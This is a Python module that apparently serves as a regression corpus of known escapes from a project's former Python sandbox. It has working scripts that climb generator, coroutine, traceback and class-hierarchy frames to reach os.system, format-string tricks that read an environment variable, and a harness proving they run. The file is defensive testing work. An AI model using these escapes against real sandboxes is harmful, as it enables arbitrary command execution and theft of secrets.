"""Known ways out of a Python sandbox, as scripts a diagram could carry.

Each ESCAPE runs the shell command {cmd} if it gets out; each LEAK puts the value of the
environment variable CANARY into the variable `leak`. Every entry is a working escape
from the sandbox this project had before (the allow-listed builtins only, with a check
of names): `naive_run` proves it, in a child process, so that the corpus cannot rot into
scripts that would fail anyway.
"""
import json
import subprocess
import sys
import textwrap

WALK_TO_SYS = """
while 'sys' not in fr.f_globals:
    fr = fr.f_back
"""

ESCAPES = {
    "generator frame (the reported attack)": """
g = (g.gi_frame.f_back for x in [1])
fr = list(g)[0]
""" + WALK_TO_SYS + "fr.f_globals['sys'].modules['os'].system({cmd!r})\n",

    "generator function frame": """
def walk():
    yield me.gi_frame.f_back
me = walk()
for fr in me:
    break
""" + WALK_TO_SYS + "fr.f_globals['sys'].modules['os'].system({cmd!r})\n",

    "coroutine frame": """
async def climb():
    return co.cr_frame.f_back
co = climb()
try:
    co.send(None)
except StopIteration as stop:
    fr = stop.value
""" + WALK_TO_SYS + "fr.f_globals['sys'].modules['os'].system({cmd!r})\n",

    "async generator frame": """
async def climb():
    yield ag.ag_frame.f_back
ag = climb()
try:
    ag.asend(None).send(None)
except StopIteration as stop:
    fr = stop.value
""" + WALK_TO_SYS + "fr.f_globals['sys'].modules['os'].system({cmd!r})\n",

    "builtins through a frame": """
g = (g.gi_frame.f_back for x in [1])
fr = list(g)[0]
""" + WALK_TO_SYS + "fr.f_builtins['__import__']('os').system({cmd!r})\n",

    "frame through a string subscript": """
g = (g.__class__.__dict__['gi_frame'].__get__(g).f_back for x in [1])
fr = list(g)[0]
""" + WALK_TO_SYS + "fr.f_globals['sys'].modules['os'].system({cmd!r})\n",

    "class hierarchy walk": """
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == 'catch_warnings':
        c()._module.__builtins__['__import__']('os').system({cmd!r})
""",

    "bound method self": "len.__self__.__import__('os').system({cmd!r})\n",

    "exception traceback": """
try:
    1 / 0
except Exception as e:
    fr = e.__traceback__.tb_frame
""" + WALK_TO_SYS + "fr.f_globals['sys'].modules['os'].system({cmd!r})\n",
}

LEAKS = {
    "format string attribute walk": """
g = ('{{0.gi_frame.f_back.f_back.f_globals[sys].modules[os].environ[CANARY]}}'.format(g) for x in [1])
leak = list(g)[0]
""",
    "f-string attribute walk": """
g = (f'{{g.gi_frame.f_back.f_back.f_globals["sys"].modules["os"].environ["CANARY"]}}' for x in [1])
leak = list(g)[0]
""",
}

# the builtins the old sandbox gave scripts (its allow-list of names; no guards)
NAIVE_BUILTINS = ["abs", "all", "any", "bool", "dict", "divmod", "enumerate", "filter", "float", "int",
                  "isinstance", "len", "list", "map", "max", "min", "range", "reversed", "round", "set", "sorted",
                  "str", "sum", "tuple", "zip", "True", "False", "None", "ValueError", "KeyError", "Exception",
                  "StopIteration"]

_NAIVE_CHILD = textwrap.dedent("""
    import builtins, json, sys
    jobs = json.loads(sys.stdin.read())
    scope_builtins = {name: getattr(builtins, name) for name in jobs["builtins"]}
    leaks = {}
    for name, script in jobs["scripts"].items():
        scope = {"__builtins__": scope_builtins}
        try:
            exec(script, scope)
        except BaseException as error:
            leaks[name] = "failed: %r" % error
        else:
            leaks[name] = str(scope.get("leak", ""))
    print(json.dumps(leaks))
""")


def escape(name: str, cmd: str) -> str:
    return ESCAPES[name].format(cmd=cmd)


def leak(name: str) -> str:
    return LEAKS[name].format()


def naive_run(scripts: dict, env: dict) -> dict:
    """Each script exec'd as the old sandbox ran it (allow-listed builtins, no guards), in a
    child process with `env`: name → the value of `leak` it left (or why it failed)."""
    done = subprocess.run([sys.executable, "-c", _NAIVE_CHILD], input=json.dumps(
        {"builtins": NAIVE_BUILTINS, "scripts": scripts}), capture_output=True, text=True, env=env, timeout=60,
        check=True)
    return json.loads(done.stdout.strip().splitlines()[-1])
